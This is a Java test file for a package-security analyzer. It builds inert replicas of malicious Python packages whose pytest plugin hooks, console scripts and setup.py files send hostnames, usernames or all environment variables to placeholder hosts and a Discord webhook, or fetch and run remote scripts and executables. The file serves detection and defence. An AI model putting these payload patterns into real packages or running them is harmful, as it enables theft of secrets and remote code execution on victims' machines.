package dev.gatehouse.policy.replicas;

import static dev.gatehouse.policy.replicas.PythonPackages.sdist;
import static dev.gatehouse.policy.replicas.PythonPackages.wheel;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.Trigger;
import java.nio.file.Path;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Inert replicas of PyPI malware whose payload sits in functions that run without anyone asking: hooks
 * of an auto-loaded pytest plugin, and (more weakly judged) the function behind a console script.
 */
class PythonEntryPointReplicasTest {
  @TempDir Path tmp;

  @Nested
  @DisplayName("shape: auto-loaded pytest plugin payload")
  class PytestPlugin {
    @Test
    void pluginModuleTopLevelBeaconsHostAndUser() throws Exception {
      wheel(tmp, "pytest-cov-report", "entry_points.txt", "[pytest11]\ncovreport = pytest_cov_report.plugin\n",
          "pytest_cov_report/__init__.py", "", "pytest_cov_report/plugin.py", """
          import getpass, socket, requests
          requests.post("https://r.example.invalid/", data={"h": socket.gethostname(), "u": getpass.getuser()})
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }

    @Test
    void pytestConfigureHookRunsADownloadingCommand() throws Exception {
      wheel(tmp, "pytest-asyncio-ext", "entry_points.txt", "[pytest11]\nasyncio_ext = pytest_asyncio_ext\n",
          "pytest_asyncio_ext/__init__.py", """
          import subprocess
          def pytest_configure(config):
              subprocess.run("curl -fsSL https://i.example.invalid/ci.sh | bash", shell=True)
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void sessionStartHookCallsAHelperInASubmoduleThatRunsFetchedCode() throws Exception {
      wheel(tmp, "pytest-env-loader", "entry_points.txt", "[pytest11]\nenvloader = pytest_env_loader.plugin\n",
          "pytest_env_loader/__init__.py", "", "pytest_env_loader/plugin.py", """
          from pytest_env_loader import _sync
          def pytest_sessionstart(session):
              _sync.refresh()
          """, "pytest_env_loader/_sync.py", """
          from urllib.request import urlopen
          def refresh():
              exec(urlopen("https://e.example.invalid/env.py").read().decode())
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.DYNAMIC_CODE);
    }
  }

  @Nested
  @DisplayName("shape: console script payload")
  class ConsoleScript {
    @Test
    void mainDownloadsToTempAndRunsTheFile() throws Exception {
      wheel(tmp, "solana-cli-tools", "entry_points.txt", "[console_scripts]\nsolana-tools = solana_cli_tools:main\n",
          "solana_cli_tools/__init__.py", """
          import os, subprocess, tempfile, urllib.request
          def main():
              exe = os.path.join(tempfile.gettempdir(), "solana-helper")
              urllib.request.urlretrieve("https://r.example.invalid/helper", exe)
              os.chmod(exe, 0o755)
              subprocess.Popen([exe])
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void mainRunsABase64Payload() throws Exception {
      wheel(tmp, "aws-login-tool", "entry_points.txt", "[console_scripts]\naws-login = aws_login.cli:main\n",
          "aws_login/__init__.py", "", "aws_login/cli.py", """
          import base64
          def main():
              exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.ENCODED_PAYLOAD, Capability.DYNAMIC_CODE);
    }

    @Test
    void mainSendsTheHostNameToADiscordWebhook() throws Exception {
      wheel(tmp, "py-notifier", "entry_points.txt", "[console_scripts]\nnotify = py_notifier.__main__:run\n",
          "py_notifier/__init__.py", "", "py_notifier/__main__.py", """
          import socket, requests
          def run():
              requests.post("https://discord.com/api/webhooks/2/def", json={"content": socket.gethostname()})
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }

    @Test
    void mainCallsAWindowsOnlyHelperThatDownloadsWithPowershell() throws Exception {
      wheel(tmp, "fastapi-cli2", "entry_points.txt", "[console_scripts]\nfastapi2 = fastapi_cli2.main:cli\n",
          "fastapi_cli2/__init__.py", "", "fastapi_cli2/main.py", """
          import os, subprocess
          def _prepare():
              if os.name == "nt":
                  subprocess.call(["powershell", "-c", "iwr https://d.example.invalid/x.exe -OutFile x.exe; ./x.exe"])
          def cli():
              _prepare()
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }
  }

  @Nested
  @DisplayName("shape: entry points declared in an sdist")
  class SdistEntryPoints {
    @Test
    void setupPyDeclaresAPytestPluginWhoseModuleBeacons() throws Exception {
      sdist(tmp, "pytest-timeouts", "setup.py", """
          from setuptools import setup
          setup(name="pytest-timeouts", packages=["pytest_timeouts"],
                entry_points={"pytest11": ["timeouts = pytest_timeouts.plugin"]})
          """, "pytest_timeouts/__init__.py", "", "pytest_timeouts/plugin.py", """
          import os, requests
          requests.post("https://t.example.invalid/c", json=dict(os.environ))
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.ENVIRONMENT_READ);
    }

    @Test
    void setupCfgConsoleScriptDownloadsAndRunsABinary() throws Exception {
      sdist(tmp, "solana-keygen-py", "setup.py", "from setuptools import setup\nsetup()\n", "setup.cfg", """
          [metadata]
          name = solana-keygen-py
          [options.entry_points]
          console_scripts =
              solana-keygen = solana_keygen_py.cli:main
          """, "solana_keygen_py/__init__.py", "", "solana_keygen_py/cli.py", """
          import os, stat, subprocess, tempfile, urllib.request
          def main():
              exe = os.path.join(tempfile.gettempdir(), "kg")
              urllib.request.urlretrieve("https://k.example.invalid/kg", exe)
              os.chmod(exe, stat.S_IRWXU)
              subprocess.Popen([exe])
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void pyprojectEntryPointGroupLoadedByKeyringRunsAnEncodedPayload() throws Exception {
      sdist(tmp, "keyring-vault", "pyproject.toml", """
          [build-system]
          requires = ["setuptools>=61"]
          build-backend = "setuptools.build_meta"
          [project]
          name = "keyring-vault"
          version = "1.0.0"
          [project.entry-points."keyring.backends"]
          vault = "keyring_vault.backend"
          """, "keyring_vault/__init__.py", "", "keyring_vault/backend.py", """
          import base64
          exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.ENCODED_PAYLOAD, Capability.DYNAMIC_CODE);
    }

    @Test
    void setupPyEntryPointsBoundToANameNameAConsoleScriptThatCallsAHelper() throws Exception {
      sdist(tmp, "colorlog-cli", "setup.py", """
          from setuptools import setup
          ENTRY_POINTS = {
              "console_scripts": [
                  "colorlog = colorlog_cli.main:run",
              ],
          }
          setup(name="colorlog-cli", entry_points=ENTRY_POINTS)
          """, "colorlog_cli/__init__.py", "", "colorlog_cli/main.py", """
          from colorlog_cli import _net
          def run():
              _net.sync()
          """, "colorlog_cli/_net.py", """
          import subprocess
          def sync():
              subprocess.run("curl -fsSL https://c.example.invalid/s.sh | sh", shell=True)
          """).isStopped(Trigger.PLUGIN_ENTRY_POINT, Capability.PROCESS_SPAWN, Capability.NETWORK);
    }

    @Test
    void setupPyImportsItsPayloadFromAFolderItPutsOnSysPath() throws Exception {
      sdist(tmp, "discordpy-utils", "setup.py", """
          import os, sys
          sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
          from setuptools import setup
          import _build_helpers
          _build_helpers.prepare()
          setup(name="discordpy-utils", package_dir={"": "lib"})
          """, "lib/discordpy_utils/__init__.py", "", "lib/_build_helpers.py", """
          import os, urllib.request
          def prepare():
              p = os.path.join(os.environ["APPDATA"], "u.exe")
              urllib.request.urlretrieve("https://u.example.invalid/u.exe", p)
              os.startfile(p)
          """).isStopped(Trigger.SETUP_SCRIPT, Capability.NETWORK, Capability.PROCESS_SPAWN);
    }

    @Test
    void benignSdistWhoseCommandRunsGitIsAllowed() throws Exception {
      sdist(tmp, "bump-tool", "setup.py", "from setuptools import setup\nsetup()\n", "setup.cfg", """
          [options.entry_points]
          console_scripts =
              bump = bump_tool:main
          """, "bump_tool/__init__.py", """
          import subprocess, sys
          def main():
              subprocess.check_call(["git", "tag", sys.argv[1]])
          """).isAllowed();
    }
  }

  @Nested
  @DisplayName("benign twin: plugins and commands doing their job")
  class Benign {
    @Test
    void commandThatQueriesAnApiAndRunsGitIsWhatReleaseToolsDo() throws Exception {
      wheel(tmp, "release-tool", "entry_points.txt", "[console_scripts]\nrelease = release_tool:main\n",
          "release_tool/__init__.py", """
          import json, os, subprocess, sys, urllib.request
          def main():
              api = os.environ.get("RELEASE_API", "https://api.github.com/repos/o/r/releases/latest")
              tag = json.load(urllib.request.urlopen(api))["tag_name"]
              subprocess.check_call(["git", "tag", tag], cwd=os.getcwd())
              subprocess.check_call([sys.executable, "-m", "build"])
          """).isAllowed();
    }

    @Test
    void pytestPluginWhoseFixtureStartsAServer() throws Exception {
      wheel(tmp, "pytest-server", "entry_points.txt", "[pytest11]\nserver = pytest_server\n",
          "pytest_server/__init__.py", """
          import subprocess, sys, socket
          import pytest
          @pytest.fixture
          def server():
              p = subprocess.Popen([sys.executable, "-m", "http.server", "0"])
              yield p
              p.terminate()
          def pytest_addoption(parser):
              parser.addoption("--server-port", default="0")
          """).isAllowed();
    }
  }
}
